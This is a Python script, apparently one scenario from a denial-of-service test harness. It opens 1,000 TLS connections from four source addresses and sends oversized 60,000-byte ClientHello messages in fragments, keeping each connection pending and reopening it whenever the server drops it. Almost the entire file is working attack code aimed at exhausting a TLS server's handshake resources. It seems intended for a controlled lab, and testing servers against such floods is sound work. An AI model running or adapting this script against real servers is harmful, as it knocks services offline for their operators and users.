"""ClientHellos of 60,000 bytes that stop before their end, on connections that are opened again when
the server closes them: from four addresses, 250 each."""
import socket
import struct
import time

import attack
import turn

ADDRESSES = 4
EACH = 250
RECORD = 16_000


def partial_hello():
    body = b"\1" + struct.pack("!I", 60_000)[1:] + b"\3\3" + b"r" * 59_000
    records = [body[at : at + RECORD] for at in range(0, len(body), RECORD)]
    return b"".join(b"\x16\3\1" + struct.pack("!H", len(part)) + part for part in records)


def main():
    attack.allow_many_descriptors()
    hello = partial_hello()
    connections, attempts, bytes_sent = {}, 0, 0
    while attack.goes_on():
        for place in range(ADDRESSES * EACH):
            stream, rest = connections.get(place, (None, b""))
            try:
                if stream is None:
                    stream = socket.socket()
                    connections[place] = (stream, hello)
                    attempts += 1
                    stream.bind((f"{turn.ATTACKERS}{3 + place // EACH}", 0))
                    stream.settimeout(0.2)
                    stream.connect((turn.SERVER, turn.TLS_PORT))
                    stream.setblocking(False)
                elif rest:
                    count = stream.send(rest)
                    bytes_sent += count
                    connections[place] = (stream, rest[count:])
                elif stream.recv(1) == b"":
                    raise ConnectionResetError
            except BlockingIOError:
                pass
            except OSError:
                stream.close()
                del connections[place]
            if not attack.goes_on():
                break
        if attempts >= ADDRESSES * EACH:
            attack.begun()
        time.sleep(0.05)
    attack.report(attempts=attempts, held=len(connections), megabytes_sent=round(bytes_sent / 1e6, 1))


main()
